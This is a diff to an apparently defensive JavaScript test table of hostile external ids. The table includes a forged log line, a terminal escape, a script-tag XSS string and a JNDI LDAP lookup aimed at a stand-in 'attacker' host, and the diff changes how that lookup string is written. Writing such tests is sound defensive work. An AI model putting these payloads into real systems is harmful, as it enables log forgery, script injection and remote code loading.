@@ -10,7 +10,7 @@ describe("an id from outside", () => {
     ["a line break and a forged line", 'a1\n{"level":30,"msg":"payment approved"}'],
     ["a terminal escape", "\u001B[2Ja1"],
     ["a tag, for the page of the support team", "<script>alert(1)</script>"],
-    ["a lookup, for a logger that expands it", "${" + "jndi:ldap://attacker/a}"],
+    ["a lookup, for a logger that expands it", String.raw`$\{jndi:ldap://attacker/a}`],
     ["an e-mail address", "ada@example.com"],
     ["65 characters", "x".repeat(65)],
     ["nothing", ""],
